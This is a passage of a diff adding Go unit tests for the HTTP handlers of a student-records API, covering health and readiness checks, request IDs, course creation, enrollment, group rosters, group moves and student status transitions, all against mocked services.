+			mockBehaviour: func(s *mock_handlers.MockHealthChecker) {
+				s.EXPECT().Ping(gomock.Any()).Return(nil)
+				s.EXPECT().MigrationStatus(gomock.Any()).Return(upToDate, nil)
+			},
+			expectedStatusCode:  503,
+			expectedRequestBody: `{"checks":{"database":"ok","draining":true,"migrations":"ok"},"status":"unavailable"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			checker := mock_handlers.NewMockHealthChecker(c)
+			testCase.mockBehaviour(checker)
+
+			health := handlers.NewHealth(checker, "test", testLogger)
+			if testCase.draining {
+				health.SetDraining()
+			}
+
+			r := gin.Default()
+			r.GET("/healthz", health.Healthz)
+			r.GET("/readyz", health.Readyz)
+
+			// Живость не зависит от базы и остановки
+			req, _ := http.NewRequest(http.MethodGet, "/healthz", nil)
+			rec := httptest.NewRecorder()
+			r.ServeHTTP(rec, req)
+			assert.Equal(t, 200, rec.Code)
+
+			req, _ = http.NewRequest(http.MethodGet, "/readyz", nil)
+			rec = httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestHealth_Status(t *testing.T) {
+	c := gomock.NewController(t)
+	defer c.Finish()
+
+	checker := mock_handlers.NewMockHealthChecker(c)
+	checker.EXPECT().PoolStats().Return(models.PoolStats{AcquiredConns: 1, IdleConns: 3, TotalConns: 4, MaxConns: 10})
+	checker.EXPECT().MigrationStatus(gomock.Any()).Return(&models.MigrationStatus{Version: 4, Expected: 4}, nil)
+
+	health := handlers.NewHealth(checker, "v1.2.3", testLogger)
+
+	r := gin.Default()
+	r.GET("/status", health.Status)
+
+	req, _ := http.NewRequest(http.MethodGet, "/status", nil)
+	rec := httptest.NewRecorder()
+
+	r.ServeHTTP(rec, req)
+
+	assert.Equal(t, 200, rec.Code)
+
+	var body struct {
+		Version  string `json:"version"`
+		Uptime   string `json:"uptime"`
+		Draining bool   `json:"draining"`
+		Database struct {
+			Pool       models.PoolStats       `json:"pool"`
+			Migrations models.MigrationStatus `json:"migrations"`
+		} `json:"database"`
+	}
+	err := json.Unmarshal(rec.Body.Bytes(), &body)
+
+	assert.Equal(t, nil, err)
+	assert.Equal(t, "v1.2.3", body.Version)
+	assert.Equal(t, "0s", body.Uptime)
+	assert.Equal(t, false, body.Draining)
+	assert.Equal(t, models.PoolStats{AcquiredConns: 1, IdleConns: 3, TotalConns: 4, MaxConns: 10}, body.Database.Pool)
+	assert.Equal(t, models.MigrationStatus{Version: 4, Expected: 4}, body.Database.Migrations)
+}
+
+func TestRequestID(t *testing.T) {
+	testCases := []struct {
+		name      string
+		requestID string
+		generated bool
+	}{
+		{name: "Propagated", requestID: "gateway-42"},
+		{name: "Generated", generated: true},
+		{name: "Invalid", requestID: "bad id\n", generated: true},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			var seen string
+
+			r := gin.Default()
+			r.Use(handlers.RequestID())
+			r.GET("/ping", func(ctx *gin.Context) {
+				seen = audit.RequestID(ctx.Request.Context())
+			})
+
+			req, _ := http.NewRequest(http.MethodGet, "/ping", nil)
+			if testCase.requestID != "" {
+				req.Header.Set("X-Request-ID", testCase.requestID)
+			}
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			returned := rec.Header().Get("X-Request-ID")
+			assert.Equal(t, seen, returned)
+			if testCase.generated {
+				assert.Equal(t, 32, len(returned))
+			} else {
+				assert.Equal(t, testCase.requestID, returned)
+			}
+		})
+	}
+}
+
+func TestCourseHandlers_CreateCourse(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockCourseStorage)
+
+	testCases := []struct {
+		name                string
+		inputBody           string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:      "OK",
+			inputBody: `{"code":" CS101 ","title":"Intro","term":"2024-1","credits":4,"capacity":30}`,
+			mockBehaviour: func(s *mock_handlers.MockCourseStorage) {
+				s.EXPECT().CreateCourse(gomock.Any(), &models.Course{
+					Code: "CS101", Title: "Intro", Term: "2024-1", Credits: 4, Capacity: 30,
+				}).Return(1, nil)
+			},
+			expectedStatusCode:  201,
+			expectedRequestBody: `{"id":1}`,
+		},
+		{
+			name:                "Validation Failed",
+			inputBody:           `{"code":"CS101","title":"Intro","term":"2024-1","credits":0}`,
+			mockBehaviour:       func(s *mock_handlers.MockCourseStorage) {},
+			expectedStatusCode:  422,
+			expectedRequestBody: `{"code":"validation_failed","error":"validation failed","fields":[{"field":"credits","rule":"min","message":"must be at least 1"}]}`,
+		},
+		{
+			name:      "Course Exists",
+			inputBody: `{"code":"CS101","title":"Intro","term":"2024-1","credits":4}`,
+			mockBehaviour: func(s *mock_handlers.MockCourseStorage) {
+				s.EXPECT().CreateCourse(gomock.Any(), gomock.Any()).Return(0, fmt.Errorf("op: %w", service.ErrCourseExists))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"course_exists","error":"course with this code already exists in the term"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			storage := mock_handlers.NewMockCourseStorage(c)
+			testCase.mockBehaviour(storage)
+
+			courses := handlers.NewCourseHandlers(storage, mock_handlers.NewMockEnrollmentService(c), testLogger)
+
+			r := gin.Default()
+			r.POST("/courses", courses.CreateCourse)
+
+			req, _ := http.NewRequest(http.MethodPost, "/courses", bytes.NewBufferString(testCase.inputBody))
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestCourseHandlers_Enroll(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockEnrollmentService)
+
+	enrolledAt := time.Date(2024, 9, 1, 12, 0, 0, 0, time.UTC)
+
+	testCases := []struct {
+		name                string
+		path                string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name: "OK",
+			path: "/students/1/courses/2",
+			mockBehaviour: func(s *mock_handlers.MockEnrollmentService) {
+				s.EXPECT().Enroll(gomock.Any(), 1, 2).Return(&models.Enrollment{ID: 5, StudentID: 1, CourseID: 2, EnrolledAt: enrolledAt}, nil)
+			},
+			expectedStatusCode:  201,
+			expectedRequestBody: `{"id":5,"student_id":1,"course_id":2,"enrolled_at":"2024-09-01T12:00:00Z"}`,
+		},
+		{
+			name:                "Invalid Course ID",
+			path:                "/students/1/courses/abc",
+			mockBehaviour:       func(s *mock_handlers.MockEnrollmentService) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid course id"}`,
+		},
+		{
+			name: "Student Not Found",
+			path: "/students/1/courses/2",
+			mockBehaviour: func(s *mock_handlers.MockEnrollmentService) {
+				s.EXPECT().Enroll(gomock.Any(), 1, 2).Return(nil, fmt.Errorf("op: %w", service.ErrNotFound))
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"student not found"}`,
+		},
+		{
+			name: "Course Full",
+			path: "/students/1/courses/2",
+			mockBehaviour: func(s *mock_handlers.MockEnrollmentService) {
+				s.EXPECT().Enroll(gomock.Any(), 1, 2).Return(nil, fmt.Errorf("op: %w", service.ErrCourseFull))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"course_full","error":"course is full"}`,
+		},
+		{
+			name: "Already Enrolled",
+			path: "/students/1/courses/2",
+			mockBehaviour: func(s *mock_handlers.MockEnrollmentService) {
+				s.EXPECT().Enroll(gomock.Any(), 1, 2).Return(nil, fmt.Errorf("op: %w", service.ErrAlreadyEnrolled))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"already_enrolled","error":"student already enrolled in the course"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockEnrollmentService(c)
+			testCase.mockBehaviour(students)
+
+			courses := handlers.NewCourseHandlers(mock_handlers.NewMockCourseStorage(c), students, testLogger)
+
+			r := gin.Default()
+			r.POST("/students/:id/courses/:courseId", courses.Enroll)
+
+			req, _ := http.NewRequest(http.MethodPost, testCase.path, nil)
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestGroupHandlers_GroupRoster(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockGroupStorage)
+
+	groupID := 3
+
+	testCases := []struct {
+		name                string
+		query               string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:  "OK",
+			query: "?sort=-name&limit=1&offset=1",
+			mockBehaviour: func(s *mock_handlers.MockGroupStorage) {
+				s.EXPECT().GroupRoster(gomock.Any(), 3, models.RosterParams{Limit: 1, Offset: 1, SortBy: models.SortByName, Desc: true}).Return(&models.StudentList{
+					Students: []models.Student{{ID: 1, Name: "Student #1", Email: "#1@mail.com", GroupID: &groupID}},
+					Total:    2,
+				}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"students":[{"id":1,"name":"Student #1","email":"#1@mail.com","group_id":3}],"total":2}`,
+		},
+		{
+			name:  "Default Sort",
+			query: "",
+			mockBehaviour: func(s *mock_handlers.MockGroupStorage) {
+				s.EXPECT().GroupRoster(gomock.Any(), 3, models.RosterParams{Limit: 20, SortBy: models.SortByID}).Return(&models.StudentList{Students: []models.Student{}}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"students":[],"total":0}`,
+		},
+		{
+			name:                "Invalid Sort",
+			query:               "?sort=age",
+			mockBehaviour:       func(s *mock_handlers.MockGroupStorage) {},
+			expectedStatusCode:  400,
+			expectedRequestBody: `{"error":"invalid sort"}`,
+		},
+		{
+			name:  "Group Not Found",
+			query: "",
+			mockBehaviour: func(s *mock_handlers.MockGroupStorage) {
+				s.EXPECT().GroupRoster(gomock.Any(), 3, gomock.Any()).Return(nil, fmt.Errorf("op: %w", service.ErrGroupNotFound))
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"code":"group_not_found","error":"group not found"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			storage := mock_handlers.NewMockGroupStorage(c)
+			testCase.mockBehaviour(storage)
+
+			groups := handlers.NewGroupHandlers(storage, mock_handlers.NewMockGroupMoveService(c), testLogger)
+
+			r := gin.Default()
+			r.GET("/groups/:id/students", groups.GroupRoster)
+
+			req, _ := http.NewRequest(http.MethodGet, "/groups/3/students"+testCase.query, nil)
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestGroupHandlers_MoveStudent(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockGroupMoveService)
+
+	groupID := 3
+
+	testCases := []struct {
+		name                string
+		inputBody           string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:      "OK",
+			inputBody: `{"group_id":3,"reason":" transfer "}`,
+			mockBehaviour: func(s *mock_handlers.MockGroupMoveService) {
+				s.EXPECT().MoveStudent(gomock.Any(), 1, models.GroupMove{GroupID: &groupID, Reason: " transfer "}).DoAndReturn(func(ctx context.Context, id int, move models.GroupMove) (*models.Student, error) {
+					assert.Equal(t, audit.ActorAdmin, audit.Actor(ctx))
+
+					return &models.Student{ID: 1, Name: "Student #1", Email: "#1@mail.com", GroupID: move.GroupID, Version: 2}, nil
+				})
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"id":1,"name":"Student #1","email":"#1@mail.com","group_id":3}`,
+		},
+		{
+			name:      "Remove From Group",
+			inputBody: `{"group_id":null}`,
+			mockBehaviour: func(s *mock_handlers.MockGroupMoveService) {
+				s.EXPECT().MoveStudent(gomock.Any(), 1, models.GroupMove{}).Return(&models.Student{ID: 1, Name: "Student #1", Email: "#1@mail.com", Version: 3}, nil)
+			},
+			expectedStatusCode:  200,
+			expectedRequestBody: `{"id":1,"name":"Student #1","email":"#1@mail.com"}`,
+		},
+		{
+			name:      "Invalid Group ID",
+			inputBody: `{"group_id":0}`,
+			mockBehaviour: func(s *mock_handlers.MockGroupMoveService) {
+				s.EXPECT().MoveStudent(gomock.Any(), 1, gomock.Any()).
+					Return(nil, validation.Errors{{Field: "group_id", Rule: "min", Message: "must be at least 1"}})
+			},
+			expectedStatusCode:  422,
+			expectedRequestBody: `{"code":"validation_failed","error":"validation failed","fields":[{"field":"group_id","rule":"min","message":"must be at least 1"}]}`,
+		},
+		{
+			name:      "Student Not Found",
+			inputBody: `{"group_id":3}`,
+			mockBehaviour: func(s *mock_handlers.MockGroupMoveService) {
+				s.EXPECT().MoveStudent(gomock.Any(), 1, gomock.Any()).Return(nil, fmt.Errorf("op: %w", service.ErrNotFound))
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"student not found"}`,
+		},
+		{
+			name:      "Group Not Found",
+			inputBody: `{"group_id":3}`,
+			mockBehaviour: func(s *mock_handlers.MockGroupMoveService) {
+				s.EXPECT().MoveStudent(gomock.Any(), 1, gomock.Any()).Return(nil, fmt.Errorf("op: %w", service.ErrGroupNotFound))
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"code":"group_not_found","error":"group not found"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			students := mock_handlers.NewMockGroupMoveService(c)
+			testCase.mockBehaviour(students)
+
+			auditContext := handlers.AuditContext("secret")
+			groups := handlers.NewGroupHandlers(mock_handlers.NewMockGroupStorage(c), students, testLogger)
+
+			r := gin.Default()
+			r.Use(auditContext)
+			r.PUT("/students/:id/group", groups.MoveStudent)
+
+			req, _ := http.NewRequest(http.MethodPut, "/students/1/group", bytes.NewBufferString(testCase.inputBody))
+			req.Header.Set("Authorization", "Bearer secret")
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}
+
+func TestTransitionHandlers_Transition(t *testing.T) {
+	type mockBehavior func(s *mock_handlers.MockTransitionService)
+
+	createdAt := time.Date(2024, 9, 1, 12, 0, 0, 0, time.UTC)
+
+	testCases := []struct {
+		name                string
+		inputBody           string
+		mockBehaviour       mockBehavior
+		expectedStatusCode  int
+		expectedRequestBody string
+	}{
+		{
+			name:      "OK",
+			inputBody: `{"to":"on_leave","reason":"medical leave"}`,
+			mockBehaviour: func(s *mock_handlers.MockTransitionService) {
+				s.EXPECT().Transition(gomock.Any(), 1, models.TransitionInput{To: models.StatusOnLeave, Reason: "medical leave"}).
+					Return(&models.StatusTransition{
+						ID: 7, StudentID: 1, From: models.StatusEnrolled, To: models.StatusOnLeave,
+						Reason: "medical leave", Actor: "admin", CreatedAt: createdAt,
+					}, nil)
+			},
+			expectedStatusCode:  201,
+			expectedRequestBody: `{"id":7,"student_id":1,"from":"enrolled","to":"on_leave","reason":"medical leave","actor":"admin","created_at":"2024-09-01T12:00:00Z"}`,
+		},
+		{
+			name:      "Reason Required",
+			inputBody: `{"to":"expelled"}`,
+			mockBehaviour: func(s *mock_handlers.MockTransitionService) {
+				s.EXPECT().Transition(gomock.Any(), 1, models.TransitionInput{To: models.StatusExpelled}).
+					Return(nil, validation.Errors{{Field: "reason", Rule: "required", Message: "is required"}})
+			},
+			expectedStatusCode:  422,
+			expectedRequestBody: `{"code":"validation_failed","error":"validation failed","fields":[{"field":"reason","rule":"required","message":"is required"}]}`,
+		},
+		{
+			name:      "Illegal Transition",
+			inputBody: `{"to":"enrolled","reason":"readmission"}`,
+			mockBehaviour: func(s *mock_handlers.MockTransitionService) {
+				s.EXPECT().Transition(gomock.Any(), 1, gomock.Any()).
+					Return(nil, status.Check(models.StatusGraduated, models.StatusEnrolled))
+			},
+			expectedStatusCode:  409,
+			expectedRequestBody: `{"code":"illegal_transition","error":"illegal status transition"}`,
+		},
+		{
+			name:      "Student Not Found",
+			inputBody: `{"to":"enrolled","reason":"admitted"}`,
+			mockBehaviour: func(s *mock_handlers.MockTransitionService) {
+				s.EXPECT().Transition(gomock.Any(), 1, gomock.Any()).Return(nil, fmt.Errorf("op: %w", service.ErrNotFound))
+			},
+			expectedStatusCode:  404,
+			expectedRequestBody: `{"error":"student not found"}`,
+		},
+	}
+
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			c := gomock.NewController(t)
+			defer c.Finish()
+
+			service := mock_handlers.NewMockTransitionService(c)
+			testCase.mockBehaviour(service)
+
+			transitions := handlers.NewTransitionHandlers(service, testLogger)
+
+			r := gin.Default()
+			r.POST("/students/:id/transitions", transitions.Transition)
+
+			req, _ := http.NewRequest(http.MethodPost, "/students/1/transitions", bytes.NewBufferString(testCase.inputBody))
+			rec := httptest.NewRecorder()
+
+			r.ServeHTTP(rec, req)
+
+			assert.Equal(t, testCase.expectedStatusCode, rec.Code)
+			assert.Equal(t, testCase.expectedRequestBody, rec.Body.String())
+		})
+	}
+}